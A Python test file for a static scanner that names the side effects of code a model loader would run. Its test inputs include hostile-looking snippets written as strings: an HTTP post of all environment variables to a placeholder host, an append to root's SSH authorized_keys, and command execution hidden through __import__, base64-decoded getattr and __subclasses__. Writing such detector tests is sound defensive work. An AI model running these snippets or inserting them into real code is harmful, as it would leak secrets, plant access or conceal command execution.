from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.scan.effects import effects, judge
from accord.scan.part import Part


def done(code: str) -> set[str]:
    found, problem = effects(code)
    assert problem is None
    return {one.name for one in found}


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("exec('z = 1')", "exec"),
        ("import os\nos.popen('true')", "os.popen"),
        ("from os import system as s\ns('true')", "os.system"),
        ("import os\nrun = os.execvp\nrun('true', [])", "os.execvp"),
        ("import subprocess as sp\nclass A:\n    x = sp.run(['true'])", "subprocess.run"),
        ("import subprocess\n@subprocess.Popen\ndef f():\n    pass", None),
        ("import os\ndef f(x=os.system('true')):\n    pass", "os.system"),
        ("import os\ndef f():\n    g()\ndef g():\n    os.system('true')\nf()", "os.system"),
        ("import os\nclass Net:\n    def __init__(self):\n        os.system('true')", "os.system"),
        (
            "import socket\nclass H:\n    def handle(self, data, context):\n        socket.create_connection(('x', 1))",
            "socket.create_connection",
        ),
        ("__import__('os').system('true')", "__import__().system"),
        ("__import__('o' + 's').system('true')", "__import__().system"),
        ("import importlib\nimportlib.import_module('os').system('true')", "importlib.import_module().system"),
        ("import os\ngetattr(os, 'sys' + 'tem')('true')", "getattr('system')"),
        ("import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('true')", "getattr"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "exec"),
        ("import pickle\npickle.loads(b'N.')", "pickle.loads"),
        ("import marshal\nmarshal.loads(b'N')", "marshal.loads"),
        ("import ctypes\nctypes.CDLL('x.so')", "ctypes.CDLL"),
        ("import urllib.request\nurllib.request.urlopen('http://x.example')", "urllib.request.urlopen"),
        ("import requests, os\nrequests.post('http://x.example', data=dict(os.environ))", "requests.post"),
        ("x = ().__class__.__base__.__subclasses__()", "__subclasses__"),
        ("open('/root/.ssh/authorized_keys', 'a')", ".ssh/"),
        ("import torch\nclass Net:\n    def forward(self, x):\n        return torch.load('x.pt')", None),
        ("(lambda: __import__('subprocess').call('true'))()", "__import__().call"),
    ],
)
def test_what_code_does_when_a_loader_uses_it_is_named(code: str, name: str | None) -> None:
    assert (name in done(code)) if name else not done(code)


@pytest.mark.parametrize(
    "code",
    [
        "import os\npath = os.path.join('a', 'b')\nhome = os.environ.get('HOME')\n",
        "import re\nP = re.compile('x')\n",
        (
            "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n"
            "        return getattr(self, 'layer')(x)\n"
        ),
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])\n",
        "import pickle\ndef never_called():\n    pickle.loads(b'')\n",
        "import torch\ndef forward(x):\n    return torch.hub\n",
        "TEXT = 'os.system is a function; see .ssh and\\nother places'\n",
        "import importlib\nmodule = importlib.import_module('transformers')\n",
    ],
)
def test_ordinary_code_has_no_effect_that_is_told(code: str) -> None:
    assert done(code) == set()


def test_an_effect_says_when_it_happens_and_where() -> None:
    found, _ = effects("import os\nclass Net:\n    def __init__(self):\n        os.system('true')\n")
    assert (found[0].line, found[0].when, found[0].does) == (4, "in __init__()", "starts a program")


@pytest.mark.parametrize("code", ["def (", "(" * 5000, "-" * 100_000 + "1", "\0", "x = '" + "a" * (2 << 20) + "'"])
def test_code_that_cannot_be_read_is_said_to_be_so(code: str) -> None:
    assert effects(code)[1]


@given(st.text(max_size=300))
def test_no_text_breaks_the_reading_of_source(text: str) -> None:
    effects(text)


def test_ordinary_code_that_a_loader_runs_is_unknown_and_never_silent() -> None:
    code = Part(b"x = 1\n", name="handler.py")
    assert [one.kind for one in judge(code, code, "serving runs")] == ["remote-code"]


def test_only_code_itself_has_a_line() -> None:
    code, config = Part(b"import os\nos.system('true')\n", name="m.py"), Part(b"{}", name="config.json")
    assert [one.line for one in judge(code, code, "x")] == [2]
    assert [one.line for one in judge(code, config, "x")] == [None]
